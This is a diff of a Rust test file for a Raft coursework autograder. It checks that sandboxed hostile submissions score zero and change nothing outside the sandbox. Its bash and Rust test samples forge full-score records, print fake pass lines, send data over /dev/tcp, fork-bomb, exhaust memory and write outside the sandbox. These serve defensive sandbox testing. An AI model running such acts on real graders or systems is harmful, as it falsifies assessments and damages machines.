@@ -1,16 +1,26 @@
-//! `grade --submission` against submissions that cheat or misbehave (issue 27): each is a
-//! student crate whose Raft does nothing (an honest grade of zero) plus one dishonest or
-//! broken act, built and run in the sandbox. Each must score zero, say what happened, and
-//! change nothing outside its sandbox; two different submissions graded back to back each get
-//! their own verdict.
+//! `grade --submission` and `grade --peer-bin` against submissions that cheat or misbehave
+//! (issue 27): every peer is a process of the submission's code, each in a sandbox of its own,
+//! and the tests, the verdict and the record stay in the grader's process. Each hostile
+//! submission is a Raft that does nothing (an honest zero) plus one dishonest or broken act;
+//! each must score zero, say in the record what became of its processes, and change nothing
+//! outside its sandbox. The reference, run the same way, scores full marks.
 //!
-//! Every grade builds a workspace (the handout and the crate): the first builds the template
-//! of the dependencies in the shared `--target-dir`, later ones copy it and compile only the
-//! crate and the grader's binary. Each grade runs one test (2A's initial election) once in
-//! virtual time. They are ignored by default for their cost (the template alone took more than
-//! 10 min on 2 cores shared with other builds); run them with `-- --ignored`. On a machine
-//! where the sandbox cannot be made, these tests say so and pass without grading (the grader
-//! itself refuses to grade unprotected there).
+//! Two kinds, for CI's budget:
+//!
+//! - **peer binaries** (`--peer-bin`, not ignored): the acts as shell scripts that the grader
+//!   starts as its peers (`SCRIPT peer SOCKET`), so no build is needed; a grade takes a few
+//!   seconds. They check everything that happens when the submission's code runs: the record
+//!   is the grader's, no file outside changes, no process survives, no network, limits hold,
+//!   and the deadline.
+//! - **crates** (`--submission`, ignored for their cost): the same acts in Rust, in a student
+//!   crate built in the sandbox, plus a build script that writes outside its folder, two
+//!   submissions graded back to back, and one that does not compile. The first grade builds
+//!   the template of the dependencies (about 3 min on 2 busy cores), later ones about 7 s
+//!   each. `cargo test -p grader --test submissions -- --ignored`; the figures are in
+//!   docs/GRADING.md.
+//!
+//! Where the sandbox cannot be made these tests say so and pass without grading, except in CI
+//! (`CI=true`: `.ci/run` installs bubblewrap), where that is a failure.
 
 // The helpers outside #[test] functions check as the tests do: a panic is the report.
 #![allow(clippy::unwrap_used)]
@@ -20,26 +30,379 @@ use std::net::TcpListener;
 use std::path::{Path, PathBuf};
 use std::sync::Mutex;
 
-use grader::grade::record::{GradeRecord, Status};
+use grader::grade::record::{GradeRecord, Isolation, Status};
 use raft_rpc::RaftPeer;
 
-/// One grade at a time: each builds and runs a workspace.
+/// One grade at a time: a grade sets the process's peer launcher.
 static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());
 
 fn target_dir() -> PathBuf {
     Path::new(env!("CARGO_TARGET_TMPDIR")).join("grade-submissions")
 }
 
-/// Whether the sandbox can be made here (else the test is skipped, with a note).
+/// Whether the sandbox can be made here (else the test is skipped, with a note; in CI a
+/// failure).
 fn sandbox_here() -> bool {
     match grader::grade::sandbox::Sandbox::new(Default::default(), 201_000).and_then(|s| s.probe())
     {
         Ok(()) => true,
         Err(e) => {
+            let ci = std::env::var("CI").is_ok_and(|v| !v.is_empty() && v != "0" && v != "false");
+            assert!(
+                !ci,
+                "CI must be able to make the sandbox (.ci/run installs bubblewrap): {e}"
+            );
             eprintln!("no sandbox on this machine, test skipped: {e}");
             false
         }
     }
+}
+
+/// Runs `grade ARGS --format json --json FILE` in this process; the record printed, checked
+/// to be the one written.
+fn grade(args: &[&str], json: &Path) -> GradeRecord {
+    let _one = ONE_AT_A_TIME
+        .lock()
+        .unwrap_or_else(std::sync::PoisonError::into_inner);
+    let mut argv: Vec<String> = [
+        "grade",
+        "--format",
+        "json",
+        "--json",
+        json.to_str().unwrap(),
+    ]
+    .iter()
+    .chain(args)
+    .map(|s| s.to_string())
+    .collect();
+    argv.shrink_to_fit();
+    let mut out = Vec::new();
+    let code = grader::grade::main_with_args::<RaftPeer>(&argv, &mut out);
+    let text = String::from_utf8(out).unwrap();
+    assert_eq!(code, 0, "graded, not a grader error: {text}");
+    let record = GradeRecord::from_json(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
+    let written = std::fs::read_to_string(json).unwrap();
+    assert_eq!(
+        GradeRecord::from_json(&written).unwrap(),
+        record,
+        "the file written is the grader's record, untouched"
+    );
+    record
+}
+
+/// One short test, once, on the wall clock (process mode has no virtual time).
+const ONE_TEST: &[&str] = &[
+    "2A",
+    "--test",
+    "initial_election_2a",
+    "--real-time-runs",
+    "1",
+    "--seed",
+    "3",
+];
+
+/// Processes on this machine whose command line contains `marker`.
+fn processes_with(marker: &str) -> Vec<String> {
+    std::fs::read_dir("/proc")
+        .unwrap()
+        .filter_map(|e| std::fs::read(e.ok()?.path().join("cmdline")).ok())
+        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
+        .filter(|c| c.contains(marker))
+        .collect()
+}
+
+/// The reference Raft's sources: what a submission must not read.
+fn reference_source() -> PathBuf {
+    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../raft-core/src/lib.rs");
+    std::path::absolute(p).unwrap()
+}
+
+/// What each hostile submission tries, and what the grade must show.
+struct Hostile {
+    name: &'static str,
+    /// Shell (bash) for the peer-binary version.
+    script: String,
+    /// Rust statements (run once per process, at the first `make`) for the crate version.
+    rust: String,
+}
+
+/// The ten hostile acts of issue 27 (item 5), against the files and ports of `victim`.
+fn hostile_acts(victim: &Victim) -> Vec<Hostile> {
+    let json = victim.json.display().to_string();
+    let file = victim.file.display().to_string();
+    let reference = reference_source().display().to_string();
+    let port = victim.port;
+    let tag = &victim.tag;
+    let forged = r#"{"schema":"raft-lab-grade/1","status":"graded","message":null,"submission":null,"implementation":null,"seed":3,"virtual_runs":1,"real_time_runs":0,"invariants":true,"score":100.0,"max_score":100.0,"parts":[],"tests":[],"cpu_secs":0.0,"wall_secs":0.0}"#;
+    vec![
+        Hostile {
+            name: "writes a full-score record",
+            script: format!(
+                "for f in {json} /out/record.json ./record.json /tmp/record.json; do \
+                 echo '{forged}' > \"$f\"; done; exit 0"
+            ),
+            rust: format!(
+                r#"for f in ["{json}", "/out/record.json", "record.json", "/tmp/record.json"] {{
+                    let _ = std::fs::write(f, {forged:?});
+                }}"#
+            ),
+        },
+        Hostile {
+            name: "leaves a process behind to rewrite the outputs",
+            script: format!(
+                "setsid bash -c 'for i in $(seq 600); do echo forged > {json}; \
+                 echo forged > {file}; sleep 0.1; done; echo left-{tag}' < /dev/null \
+                 > /dev/null 2>&1 & exit 0"
+            ),
+            rust: format!(
+                r#"let _ = std::process::Command::new("setsid").args(["bash", "-c",
+                    "for i in $(seq 600); do echo forged > {json}; echo forged > {file}; \
+                     sleep 0.1; done; echo left-{tag}"])
+                    .stdin(std::process::Stdio::null()).spawn();"#
+            ),
+        },
+        Hostile {
+            name: "prints fake Passed lines",
+            script: "for i in $(seq 50); do echo 'Test (2A): initial election ...'; \
+                     echo '  ... Passed --   3.0  3   58   16522    0'; done; echo PASS; \
+                     echo 'ok  6.5840/raft 3.0s'; sleep 1; exit 0"
+                .to_string(),
+            rust: r#"for _ in 0..50 { println!("Test (2A): initial election ...\n  ... Passed --   3.0  3   58   16522    0"); }
+                println!("PASS\nok  \t6.5840/raft\t3.0s");"#
+                .to_string(),
+        },
+        Hostile {
+            name: "exits 0 from make()",
+            script: "exit 0".to_string(),
+            rust: "std::process::exit(0);".to_string(),
+        },
+        Hostile {
+            name: "writes outside its folder",
+            script: format!(
+                "echo overwritten > {file}; echo x > /tmp/{tag}; mkdir -p /work && \
+                 echo x > /work/{tag}; exit 0"
+            ),
+            rust: format!(
+                r#"let _ = std::fs::write("{file}", "overwritten");
+                let _ = std::fs::write("/work/{tag}", "x");"#
+            ),
+        },
+        Hostile {
+            name: "reads the reference Raft",
+            // Exit 3 when it could read it, 4 when it could not: the record's peer figures.
+            script: format!("if cat {reference} > /dev/null 2>&1; then exit 3; else exit 4; fi"),
+            rust: format!(
+                r#"if std::fs::read_to_string("{reference}").is_ok() {{ std::process::exit(3); }}
+                std::process::exit(4);"#
+            ),
+        },
+        Hostile {
+            name: "opens a TCP connection",
+            script: format!(
+                "if (echo stolen > /dev/tcp/127.0.0.1/{port}) 2>/dev/null; then exit 5; \
+                 else exit 6; fi"
+            ),
+            rust: format!(
+                r#"if let Ok(mut s) = std::net::TcpStream::connect("127.0.0.1:{port}") {{
+                    use std::io::Write; let _ = s.write_all(b"stolen"); std::process::exit(5);
+                }}
+                std::process::exit(6);"#
+            ),
+        },
+        Hostile {
+            name: "forks without end",
+            script: format!(
+                "n=0; while sleep 300.{tag}1 & do n=$((n+1)); [ $n -gt 5000 ] && break; done; \
+                 echo forked $n; exit 0"
+            ),
+            rust: format!(
+                r#"let mut kids = Vec::new();
+                while let Ok(k) = std::process::Command::new("sleep").arg("300.{tag}1").spawn() {{
+                    kids.push(k);
+                    if kids.len() > 5000 {{ break; }}
+                }}
+                eprintln!("forked {{}}", kids.len());
+                std::mem::forget(kids);"#
+            ),
+        },
+        Hostile {
+            name: "allocates without end",
+            script: "x=aaaaaaaaaaaaaaaa; while :; do x=\"$x$x\"; done".to_string(),
+            rust: "let mut hoard: Vec<Vec<u8>> = Vec::new();\n\
+                   loop { hoard.push(vec![1u8; 64 << 20]); }"
+                .to_string(),
+        },
+        Hostile {
+            name: "children hold its output pipes",
+            script: format!("for i in $(seq 50); do sleep 300.{tag}2 & done; exit 0"),
+            rust: format!(
+                r#"for _ in 0..50 {{
+                    let _ = std::process::Command::new("sleep").arg("300.{tag}2").spawn();
+                }}"#
+            ),
+        },
+    ]
+}
+
+/// What the hostile submissions aim at: the grader's record, a file of the machine, a port.
+struct Victim {
+    _dir: tempfile::TempDir,
+    json: PathBuf,
+    file: PathBuf,
+    listener: TcpListener,
+    port: u16,
+    tag: String,
+}
+
+impl Victim {
+    fn new() -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let json = dir.path().join("grade.json");
+        let file = dir.path().join("victim.txt");
+        std::fs::write(&file, "untouched").unwrap();
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        Victim {
+            _dir: dir,
+            json,
+            file,
+            listener,
+            port,
+            tag: format!("4471{}", std::process::id()),
+        }
+    }
+
+    /// Checks that nothing of the machine changed and that no process of the submission is
+    /// left.
+    fn check_untouched(&self, name: &str) {
+        assert_eq!(
+            std::fs::read_to_string(&self.file).unwrap(),
+            "untouched",
+            "{name}: a file of the machine changed"
+        );
+        assert!(
+            !Path::new(&format!("/work/{}", self.tag)).exists(),
+            "{name}: wrote /work"
+        );
+        assert!(
+            !Path::new(&format!("/tmp/{}", self.tag)).exists(),
+            "{name}: wrote /tmp"
+        );
+        assert!(
+            processes_with(&self.tag).is_empty(),
+            "{name}: processes left behind: {:?}",
+            processes_with(&self.tag)
+        );
+        match self.listener.accept() {
+            Ok((mut s, _)) => {
+                let mut got = String::new();
+                let _ = s.read_to_string(&mut got);
+                panic!("{name}: a connection from the sandbox: {got:?}");
+            }
+            Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
+        }
+    }
+}
+
+/// The checks every hostile grade passes: a zero, graded by the grader in the sandbox, with
+/// the peers' figures in its message; no exit that shows a leak (3: read the reference, 5:
+/// reached the network).
+fn check_zero(name: &str, r: &GradeRecord) {
+    eprintln!(
+        "{name}: score {}/{}, status {:?}, {:.1} s: {}",
+        r.score,
+        r.max_score,
+        r.status,
+        r.wall_secs,
+        r.message.as_deref().unwrap_or("")
+    );
+    assert_eq!(r.score, 0.0, "{name}: {r:?}");
+    assert!(r.max_score > 0.0);
+    assert_eq!(r.status, Status::Graded, "{name}: {:?}", r.message);
+    assert_eq!(r.isolation, Some(Isolation::Sandbox));
+    let message = r.message.as_deref().unwrap_or("");
+    assert!(message.contains("peer processes:"), "{name}: {message}");
+    assert!(
+        message.contains("no process of the sandbox's user left")
+            || grader::grade::sandbox::euid().is_none_or(|u| u != 0),
+        "{name}: {message}"
+    );
+    for leak in ["exit status: 3", "exit status: 5"] {
+        assert!(!message.contains(leak), "{name}: {message}");
+    }
+    assert!(r.wall_secs < 120.0, "{name}: the grade was held");
+}
+
+/// Writes `script` as an executable peer binary.
+fn script_peer(dir: &Path, name: &str, script: &str) -> PathBuf {
+    use std::os::unix::fs::PermissionsExt;
+    let path = dir.join(name.replace(' ', "-"));
+    std::fs::write(&path, format!("#!/bin/bash\n{script}\n")).unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    path
+}
+
+#[test]
+fn the_reference_scores_full_marks_with_sandboxed_peer_processes() {
+    if !sandbox_here() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let json = dir.path().join("grade.json");
+    let r = grade(
+        &[
+            "2A",
+            "--real-time-runs",
+            "1",
+            "--seed",
+            "3",
+            "--peer-bin",
+            env!("CARGO_BIN_EXE_grader"),
+        ],
+        &json,
+    );
+    assert_eq!(r.status, Status::Graded, "{:?}", r.message);
+    assert_eq!(r.isolation, Some(Isolation::Sandbox));
+    assert_eq!((r.virtual_runs, r.real_time_runs), (0, 1));
+    assert!((r.score - 25.0).abs() < 1e-9, "{r:?}");
+    assert!(r.tests.iter().all(|t| t.runs.len() == 1));
+}
+
+#[test]
+fn hostile_peer_binaries_score_zero_and_change_nothing() {
+    if !sandbox_here() {
+        return;
+    }
+    let victim = Victim::new();
+    let dir = tempfile::tempdir().unwrap();
+    for act in hostile_acts(&victim) {
+        let peer = script_peer(dir.path(), act.name, &act.script);
+        let mut args = ONE_TEST.to_vec();
+        args.extend(["--peer-bin", peer.to_str().unwrap()]);
+        let r = grade(&args, &victim.json);
+        check_zero(act.name, &r);
+        victim.check_untouched(act.name);
+    }
+}
+
+#[test]
+fn a_peer_past_the_deadline_is_killed_and_the_grade_is_a_timeout() {
+    if !sandbox_here() {
+        return;
+    }
+    let victim = Victim::new();
+    let dir = tempfile::tempdir().unwrap();
+    // Never connects; its child holds the output pipes.
+    let script = format!("sleep 300.{}3 & sleep 300.{}3", victim.tag, victim.tag);
+    let peer = script_peer(dir.path(), "hangs", &script);
+    let mut args = ONE_TEST.to_vec();
+    args.extend(["--timeout", "4", "--peer-bin", peer.to_str().unwrap()]);
+    let r = grade(&args, &victim.json);
+    assert_eq!(r.status, Status::TimedOut, "{:?}", r.message);
+    assert_eq!(r.score, 0.0);
+    assert!(r.wall_secs < 15.0, "{}", r.wall_secs);
+    victim.check_untouched("hangs");
 }
 
 /// A student crate whose Raft does nothing but `act` (Rust statements run once per process,
@@ -84,151 +447,51 @@ fn hostile_crate(dir: &Path, act: &str, build_rs: Option<&str>) {
     .unwrap();
 }
 
-/// Grades the crate at `sub` (one test, one virtual run) with `--json FILE`; the record
-/// printed and the one written.
-fn grade_at(sub: &Path, extra: &[&str]) -> (GradeRecord, PathBuf) {
-    let _one = ONE_AT_A_TIME
-        .lock()
-        .unwrap_or_else(std::sync::PoisonError::into_inner);
-    let json = sub.with_extension("grade.json");
-    let mut argv: Vec<String> = [
-        "grade",
-        "2A",
-        "--test",
-        "initial_election",
-        "--runs",
-        "1",
-        "--real-time-runs",
-        "0",
-        "--seed",
-        "3",
-        "--format",
-        "json",
+/// Grades the crate at `sub` on [`ONE_TEST`], in the shared template's target directory.
+fn grade_crate(sub: &Path, json: &Path) -> GradeRecord {
+    let mut args = ONE_TEST.to_vec();
+    let target = target_dir();
+    args.extend([
         "--timeout",
         "1800",
         "--submission",
         sub.to_str().unwrap(),
         "--target-dir",
-        target_dir().to_str().unwrap(),
-        "--json",
-        json.to_str().unwrap(),
-    ]
-    .iter()
-    .chain(extra)
-    .map(|s| s.to_string())
-    .collect();
-    argv.shrink_to_fit();
-    let mut out = Vec::new();
-    let code = grader::grade::main_with_args::<RaftPeer>(&argv, &mut out);
-    let text = String::from_utf8(out).unwrap();
-    assert_eq!(code, 0, "graded, not a grader error: {text}");
-    let record = GradeRecord::from_json(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
-    (record, json)
+        target.to_str().unwrap(),
+    ]);
+    grade(&args, json)
 }
 
-/// Grades a hostile crate; checks the zero and that the written record is the printed one.
-fn grade_hostile(act: &str, build_rs: Option<&str>) -> GradeRecord {
+#[test]
+#[ignore = "builds each submission in the sandbox (the template of the dependencies first, ~3 min on 2 busy cores, then ~7 s a submission): cargo test -p grader --test submissions -- --ignored"]
+fn hostile_crates_score_zero_and_change_nothing() {
+    if !sandbox_here() {
+        return;
+    }
+    let victim = Victim::new();
     let tmp = tempfile::tempdir().unwrap();
-    let sub = tmp.path().join("raft-student");
-    hostile_crate(&sub, act, build_rs);
-    let (r, json) = grade_at(&sub, &[]);
-    let written = GradeRecord::from_json(&std::fs::read_to_string(&json).unwrap()).unwrap();
-    assert_eq!(written.score, r.score);
-    assert_eq!(r.score, 0.0, "{r:?}");
-    assert!(r.max_score > 0.0);
-    r
-}
-
-/// Processes on this machine whose command line contains `marker`.
-fn processes_with(marker: &str) -> Vec<String> {
-    std::fs::read_dir("/proc")
-        .unwrap()
-        .filter_map(|e| std::fs::read(e.ok()?.path().join("cmdline")).ok())
-        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
-        .filter(|c| c.contains(marker))
-        .collect()
-}
-
-#[test]
-#[ignore = "until process mode (issue 27, item 1): the verdict is still made in the sandbox, \
-            by a grader linked with the submission, which can write its own record"]
-fn a_submission_that_writes_a_full_score_record_scores_zero() {
-    if !sandbox_here() {
-        return;
+    for (k, act) in hostile_acts(&victim).into_iter().enumerate() {
+        let sub = tmp.path().join(format!("hostile-{k}"));
+        hostile_crate(&sub, &act.rust, None);
+        let r = grade_crate(&sub, &victim.json);
+        check_zero(act.name, &r);
+        victim.check_untouched(act.name);
     }
-    let forge = r#"
-        let args: Vec<String> = std::env::args().collect();
-        if let Some(i) = args.iter().position(|a| a == "--json") {
-            let record = "{\"schema\":\"raft-lab-grade/1\",\"status\":\"graded\",\"message\":null,\
-                \"submission\":null,\"implementation\":null,\"seed\":3,\"virtual_runs\":1,\
-                \"real_time_runs\":0,\"invariants\":true,\"score\":100.0,\"max_score\":100.0,\
-                \"parts\":[],\"tests\":[],\"cpu_secs\":0.0,\"wall_secs\":0.0}";
-            let _ = std::fs::write(&args[i + 1], record);
-            std::process::exit(0);
-        }"#;
-    let r = grade_hostile(forge, None);
-    assert_eq!(r.status, Status::Graded);
 }
 
 #[test]
-#[ignore = "builds a workspace per submission in the sandbox (the first, the template of the dependencies, >10 min on 2 busy cores): cargo test -p grader --test submissions -- --ignored"]
-fn a_process_left_behind_is_gone_and_rewrites_nothing() {
-    if !sandbox_here() {
-        return;
-    }
-    // A detached process that rewrites every record file it can find for a minute.
-    let act = r#"
-        let _ = std::process::Command::new("setsid").args(["sh", "-c",
-            "for i in $(seq 600); do for f in /out/* /tmp/*.json; do echo forged > $f; done; \
-             sleep 0.1; done; echo raft-lab-left-behind-4471"])
-            .stdin(std::process::Stdio::null()).spawn();"#;
-    let r = grade_hostile(act, None);
-    // Until process mode the record is made in the sandbox, where the process may spoil it
-    // (a zero either way).
-    assert!(
-        matches!(r.status, Status::Graded | Status::BadOutput),
-        "{:?}",
-        r.message
-    );
-    assert!(processes_with("raft-lab-left-behind-4471").is_empty());
-}
-
-#[test]
-#[ignore = "builds a workspace per submission in the sandbox (the first, the template of the dependencies, >10 min on 2 busy cores): cargo test -p grader --test submissions -- --ignored"]
-fn fake_passed_lines_and_an_exit_from_make_score_zero() {
-    if !sandbox_here() {
-        return;
-    }
-    let r = grade_hostile(
-        r#"for _ in 0..50 { println!("Test (2A): initial election ...\n  ... Passed --   3.0  3   58   16522    0"); }"#,
-        None,
-    );
-    assert_eq!(r.status, Status::Graded);
-
-    let r = grade_hostile(
-        r#"println!("PASS\nok  \t6.5840/raft\t3.0s"); std::process::exit(0);"#,
-        None,
-    );
-    assert_eq!(r.status, Status::Crashed, "exit 0 without a record");
-}
-
-#[test]
-#[ignore = "builds a workspace per submission in the sandbox (the first, the template of the dependencies, >10 min on 2 busy cores): cargo test -p grader --test submissions -- --ignored"]
+#[ignore = "builds each submission in the sandbox (the template of the dependencies first, ~3 min on 2 busy cores, then ~7 s a submission): cargo test -p grader --test submissions -- --ignored"]
 fn a_build_script_writes_and_reads_nothing_outside_its_sandbox() {
     if !sandbox_here() {
         return;
     }
-    let outside = tempfile::tempdir().unwrap();
-    let victim = outside.path().join("victim.txt");
-    std::fs::write(&victim, "untouched").unwrap();
-    let reference = Path::new(env!("CARGO_MANIFEST_DIR")).join("../raft-core/src/lib.rs");
-    assert!(reference.is_file());
-    let marker = format!("/tmp/raft-lab-hostile-{}", std::process::id());
-    // Writes where it can (the host's /tmp, beside the crate, the target directory, a file of
-    // the host), and fails the build if it could read the reference Raft.
+    let victim = Victim::new();
+    let reference = reference_source();
+    // Writes where it can (the host's /tmp, beside the crate, a file of the host), and fails
+    // the build if it could read the reference Raft.
     let build_rs = format!(
         r#"fn main() {{
-            let _ = std::fs::write("{marker}", "x");
+            let _ = std::fs::write("/tmp/{tag}", "x");
             let _ = std::fs::write("{victim}", "overwritten");
             let dir = std::env::var("CARGO_MANIFEST_DIR").unwrap();
             let _ = std::fs::write(format!("{{dir}}/../escaped.txt"), "x");
@@ -237,110 +500,35 @@ fn a_build_script_writes_and_reads_nothing_outside_its_sandbox() {
                 panic!("LEAKED the reference sources");
             }}
         }}"#,
-        victim = victim.display(),
+        tag = victim.tag,
+        victim = victim.file.display(),
         reference = reference.display(),
     );
-    let reads = format!(
-        r#"if std::fs::read_to_string("{}").is_ok() {{ panic!("LEAKED the reference sources"); }}"#,
-        reference.display()
-    );
-    let r = grade_hostile(&reads, Some(&build_rs));
-    assert_eq!(r.status, Status::Graded, "{:?}", r.message);
-    assert!(!Path::new(&marker).exists(), "wrote the host's /tmp");
-    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "untouched");
+    let tmp = tempfile::tempdir().unwrap();
+    let sub = tmp.path().join("raft-student");
+    hostile_crate(&sub, "", Some(&build_rs));
+    let r = grade_crate(&sub, &victim.json);
+    check_zero("build script", &r);
+    victim.check_untouched("build script");
+    assert!(!sub.join("written.txt").exists() && !tmp.path().join("escaped.txt").exists());
 }
 
 #[test]
-#[ignore = "builds a workspace per submission in the sandbox (the first, the template of the dependencies, >10 min on 2 busy cores): cargo test -p grader --test submissions -- --ignored"]
-fn a_submission_cannot_open_a_tcp_connection() {
-    if !sandbox_here() {
-        return;
-    }
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    listener.set_nonblocking(true).unwrap();
-    let act = format!(
-        r#"if let Ok(mut s) = std::net::TcpStream::connect("127.0.0.1:{port}") {{
-            use std::io::Write; let _ = s.write_all(b"stolen");
-        }}"#
-    );
-    let r = grade_hostile(&act, None);
-    assert_eq!(r.status, Status::Graded, "{:?}", r.message);
-    match listener.accept() {
-        Ok((mut s, _)) => {
-            let mut got = String::new();
-            let _ = s.read_to_string(&mut got);
-            panic!("a connection from the sandbox: {got:?}");
-        }
-        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
-    }
-}
-
-#[test]
-#[ignore = "builds a workspace per submission in the sandbox (the first, the template of the dependencies, >10 min on 2 busy cores): cargo test -p grader --test submissions -- --ignored"]
-fn forks_and_allocations_without_end_are_stopped() {
-    if !sandbox_here() {
-        return;
-    }
-    let r = grade_hostile(
-        r#"let mut kids = Vec::new();
-        loop {
-            match std::process::Command::new("sleep").arg("300.4471").spawn() {
-                Ok(k) => kids.push(k),
-                Err(e) => { eprintln!("fork refused after {}: {e}", kids.len()); break; }
-            }
-        }
-        std::mem::forget(kids);"#,
-        None,
-    );
-    assert!(processes_with("300.4471").is_empty());
-    eprintln!(
-        "fork bomb: {:?} {:?}",
-        r.status,
-        r.message.as_deref().map(|m| &m[..m.len().min(300)])
-    );
-
-    let r = grade_hostile(
-        r#"let mut hoard: Vec<Vec<u8>> = Vec::new();
-        loop { hoard.push(vec![0u8; 64 << 20]); }"#,
-        None,
-    );
-    assert_eq!(r.status, Status::Crashed, "{:?}", r.message);
-    assert!(r.wall_secs < 600.0);
-}
-
-#[test]
-#[ignore = "builds a workspace per submission in the sandbox (the first, the template of the dependencies, >10 min on 2 busy cores): cargo test -p grader --test submissions -- --ignored"]
-fn children_holding_the_output_pipes_do_not_hold_the_grade() {
-    if !sandbox_here() {
-        return;
-    }
-    let r = grade_hostile(
-        r#"for _ in 0..50 {
-            let _ = std::process::Command::new("sleep").arg("300.4472").spawn();
-        }"#,
-        None,
-    );
-    assert_eq!(r.status, Status::Graded, "{:?}", r.message);
-    assert!(processes_with("300.4472").is_empty());
-    assert!(r.wall_secs < 280.0, "the grade waited for the children");
-}
-
-#[test]
-#[ignore = "builds a workspace per submission in the sandbox (the first, the template of the dependencies, >10 min on 2 busy cores): cargo test -p grader --test submissions -- --ignored"]
+#[ignore = "builds each submission in the sandbox (the template of the dependencies first, ~3 min on 2 busy cores, then ~7 s a submission): cargo test -p grader --test submissions -- --ignored"]
 fn two_submissions_back_to_back_each_get_their_own_verdict() {
     if !sandbox_here() {
         return;
     }
     let tmp = tempfile::tempdir().unwrap();
+    let json = tmp.path().join("grade.json");
     let alt = tmp.path().join("alice");
     let skeleton = tmp.path().join("bob");
     let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
     copy_dir(&repo.join("raft-alt"), &alt);
     copy_dir(&repo.join("raft-student"), &skeleton);
-    let (a, _) = grade_at(&alt, &[]);
-    let (b, _) = grade_at(&skeleton, &[]);
-    let (a2, _) = grade_at(&alt, &[]);
+    let a = grade_crate(&alt, &json);
+    let b = grade_crate(&skeleton, &json);
+    let a2 = grade_crate(&alt, &json);
     assert_eq!(a.status, Status::Graded, "{:?}", a.message);
     assert!(a.score > 0.0 && a.score == a.max_score, "{a:?}");
     assert_eq!(b.status, Status::Graded, "{:?}", b.message);
@@ -349,12 +537,15 @@ fn two_submissions_back_to_back_each_get_their_own_verdict() {
 }
 
 #[test]
-#[ignore = "builds a workspace per submission in the sandbox (the first, the template of the dependencies, >10 min on 2 busy cores): cargo test -p grader --test submissions -- --ignored"]
+#[ignore = "builds each submission in the sandbox (the template of the dependencies first, ~3 min on 2 busy cores, then ~7 s a submission): cargo test -p grader --test submissions -- --ignored"]
 fn a_submission_that_does_not_compile_is_a_zero_with_the_errors() {
     if !sandbox_here() {
         return;
     }
-    let r = grade_hostile("let x: u32 = \"nope\";", None);
+    let tmp = tempfile::tempdir().unwrap();
+    let sub = tmp.path().join("raft-student");
+    hostile_crate(&sub, "let x: u32 = \"nope\";", None);
+    let r = grade_crate(&sub, &tmp.path().join("grade.json"));
     assert_eq!(r.status, Status::BuildFailed);
     assert!(r.message.as_deref().unwrap().contains("mismatched types"));
 }
